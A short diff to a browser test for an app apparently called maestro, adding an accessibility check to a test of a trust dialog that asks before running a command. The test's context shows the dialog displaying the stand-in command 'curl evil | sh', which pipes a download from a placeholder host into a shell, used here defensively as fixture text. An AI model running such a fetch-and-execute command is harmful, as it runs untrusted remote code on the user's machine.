@@ -13,6 +13,7 @@ from maestro.db import models
 from maestro.worktrees import what_runs
 from maestro.worktrees.git import common_dir
 from tests.app_process import AppProcess, wait_for
+from tests.browser.axe import everywhere
 from tests.browser.conftest import OpenWindow
 from tests.browser.seeds import add, gate_on, seed_session, seeding, task
 from tests.repos import make_repo, run_git
@@ -54,6 +55,7 @@ def test_a_trial_asks_first_and_the_keyboard_answers(asking: tuple[AppProcess, P
     asked = page.get_by_role("alertdialog", name=trust.TITLE)
     expect(asked.get_by_text("curl evil | sh")).to_be_visible()
     shown.screenshot("trust-dialog")
+    assert not everywhere(page, ".q-dialog")
     page.keyboard.press("Escape")
     expect(asked).to_be_hidden()
     with app.client() as api:
